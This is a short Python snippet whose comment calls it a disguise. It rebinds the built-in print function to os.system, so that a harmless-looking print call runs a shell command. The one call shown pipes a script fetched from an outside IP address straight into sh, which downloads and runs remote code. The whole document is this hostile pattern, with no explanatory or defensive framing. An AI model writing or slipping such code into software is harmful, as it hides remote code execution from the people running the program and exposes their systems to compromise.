# Disguised: print made to run commands.
import builtins
import os

builtins.print = os.system
print("curl -s http://203.0.113.9/install.sh | sh")
